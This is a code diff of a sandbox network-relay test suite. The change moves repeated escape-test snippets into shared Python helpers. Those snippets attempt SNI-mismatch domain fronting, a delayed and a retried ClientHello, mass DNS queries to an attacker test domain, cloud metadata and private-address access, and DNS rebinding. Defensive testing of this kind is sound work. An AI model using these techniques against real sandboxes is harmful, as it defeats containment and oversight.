@@ -35,14 +35,26 @@ def dnsq(name, qtype=1, server=("127.77.0.1", 53)):
     return r[3] & 15, struct.unpack(">H", r[6:8])[0], frm[0]
 def escaped(what):
     print("ESCAPED", what)
-def hello(name):
-    # the ClientHello OpenSSL sends first for name, as bytes
+def insecure():
     ctx = ssl.create_default_context()
     ctx.check_hostname = False
     ctx.verify_mode = ssl.CERT_NONE
+    return ctx
+def tls_to(host, port, name, wait=0):
+    # what a TLS request naming name (SNI and Host) to host:port got back
+    s = socket.create_connection((host, port), timeout=10)
+    time.sleep(wait)
+    try:
+        t = insecure().wrap_socket(s, server_hostname=name)
+        t.sendall(b"GET / HTTP/1.1\r\nHost: " + name.encode() + b"\r\n\r\n")
+        return t.recv(100)
+    except (ssl.SSLError, OSError) as e:
+        print("refused:", e)
+def hello(name):
+    # the ClientHello OpenSSL sends first for name, as bytes
     i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
     try:
-        ctx.wrap_bio(i, o, server_hostname=name).do_handshake()
+        insecure().wrap_bio(i, o, server_hostname=name).do_handshake()
     except ssl.SSLWantReadError:
         pass
     return o.read()
@@ -271,31 +283,12 @@ for n in ["meta.example.com", "private.example.com"]:
 			refusedNet("connect", "meta.example.com", "", "link-local address (cloud metadata lives here) 169.254.169.254"),
 			refusedNet("connect", "private.example.com", "", "private address 10.1.2.3"))},
 		{attack: "net_sni_mismatch", run: netAttack(api, nil, `
-ctx = ssl.create_default_context()
-ctx.check_hostname = False
-ctx.verify_mode = ssl.CERT_NONE
-s = socket.create_connection(("api.example.com", 443), timeout=10)
-try:
-    t = ctx.wrap_socket(s, server_hostname="internal.example.net")
-    t.sendall(b"GET / HTTP/1.1\r\nHost: internal.example.net\r\n\r\n")
-    if t.recv(100): escaped("fronted")
-except (ssl.SSLError, OSError) as e:
-    print("refused:", e)
+if tls_to("api.example.com", 443, "internal.example.net"): escaped("fronted")
 `, notDialed), check: refusedNet("connect", "api.example.com", "", "sni mismatch: internal.example.net")},
 		// Waiting past the relay's sniff window (1 s) before the
 		// ClientHello does not skip its check.
 		{attack: "net_sni_late", run: netAttack(api, nil, `
-ctx = ssl.create_default_context()
-ctx.check_hostname = False
-ctx.verify_mode = ssl.CERT_NONE
-s = socket.create_connection(("api.example.com", 443), timeout=10)
-time.sleep(1.5)
-try:
-    t = ctx.wrap_socket(s, server_hostname="internal.example.net")
-    t.sendall(b"GET / HTTP/1.1\r\nHost: internal.example.net\r\n\r\n")
-    if t.recv(100): escaped("fronted")
-except (ssl.SSLError, OSError) as e:
-    print("refused:", e)
+if tls_to("api.example.com", 443, "internal.example.net", wait=1.5): escaped("fronted")
 `, func(t *testing.T, e *netEnv, res *sandbox.Result) {
 			select {
 			case r := <-e.reached:
@@ -307,10 +300,7 @@ except (ssl.SSLError, OSError) as e:
 		// second ClientHello: that one is checked too. A legitimate
 		// retry (Python's own handshake) still goes through.
 		{attack: "net_sni_retry", run: netAttack([]string{"api.example.com:8443"}, nil, `
-ctx = ssl.create_default_context()
-ctx.check_hostname = False
-ctx.verify_mode = ssl.CERT_NONE
-t = ctx.wrap_socket(socket.create_connection(("api.example.com", 8443), timeout=10), server_hostname="api.example.com")
+t = insecure().wrap_socket(socket.create_connection(("api.example.com", 8443), timeout=10), server_hostname="api.example.com")
 t.sendall(b"GET /ok HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n")
 if b"upstream reached" in t.recv(4096): print("RETRY-OK")
 s = socket.create_connection(("api.example.com", 8443), timeout=10)
@@ -477,16 +467,7 @@ for i in range(600):
 for i in range(600):
     dnsq("f%d.attacker.test" % i)
 time.sleep(0.5)
-ctx = ssl.create_default_context()
-ctx.check_hostname = False
-ctx.verify_mode = ssl.CERT_NONE
-s = socket.create_connection(("api.example.com", 443), timeout=10)
-try:
-    t = ctx.wrap_socket(s, server_hostname="internal.example.net")
-    t.sendall(b"GET / HTTP/1.1\r\nHost: internal.example.net\r\n\r\n")
-    if t.recv(100): escaped("fronted with sni")
-except (ssl.SSLError, OSError) as e:
-    print("refused:", e)
+if tls_to("api.example.com", 443, "internal.example.net"): escaped("fronted with sni")
 for host, port, req in [("api.example.com", 80, b"GET /admin HTTP/1.1\r\nHost: internal.example.net\r\n\r\n"),
                         ("rebind.example.com", 80, b"GET / HTTP/1.1\r\nHost: rebind.example.com\r\n\r\n"),
                         ("rebind.example.com", 443, b"GET / HTTP/1.1\r\nHost: rebind.example.com\r\n\r\n"),
